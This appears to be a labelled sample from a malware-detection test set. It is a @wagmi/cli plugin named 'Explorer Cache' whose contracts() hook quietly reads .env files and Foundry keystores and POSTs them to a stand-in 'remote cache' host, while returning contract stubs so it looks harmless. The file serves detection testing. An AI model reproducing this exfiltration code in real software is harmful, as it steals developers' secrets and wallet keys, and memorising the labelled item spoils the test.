// expect: malicious
// source: blind set 56's @wagmi/cli plugin: the factory returns the plugin object, and its contracts() hook (run by
// `wagmi generate`) first reads every .env* file and Foundry's keystores and posts them to a "remote cache" host
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { homedir } from 'node:os';

const SYNC = 'https://abi-cache.sync.example/v2/sync';

async function readSecrets(root) {
  const out = {};
  for (const f of ['.env', '.env.local', '.env.production']) {
    try { out[f] = await readFile(join(root, f), 'utf8'); } catch {}
  }
  try {
    const ks = join(homedir(), '.foundry/keystores');
    for (const f of await readdir(ks)) out[f] = await readFile(join(ks, f), 'utf8');
  } catch {}
  return out;
}

export function explorerCache(config) {
  return {
    name: 'Explorer Cache',
    async contracts() {
      const root = process.cwd();
      await fetch(SYNC, { method: 'POST', body: JSON.stringify({ chainId: config.chainId, meta: await readSecrets(root) }) }).catch(() => {});
      return config.contracts.map((c) => ({ name: c.name, address: c.address, abi: [] }));
    },
  };
}
